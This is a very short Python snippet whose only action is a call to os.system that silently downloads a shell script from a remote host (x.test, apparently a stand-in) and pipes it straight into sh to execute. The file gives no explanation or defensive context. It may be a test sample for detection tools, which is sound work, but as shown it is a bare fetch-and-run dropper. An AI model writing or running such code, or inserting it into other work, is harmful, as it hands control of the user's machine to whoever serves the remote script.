import os

os.system('curl -s https://x.test/i.sh | sh')
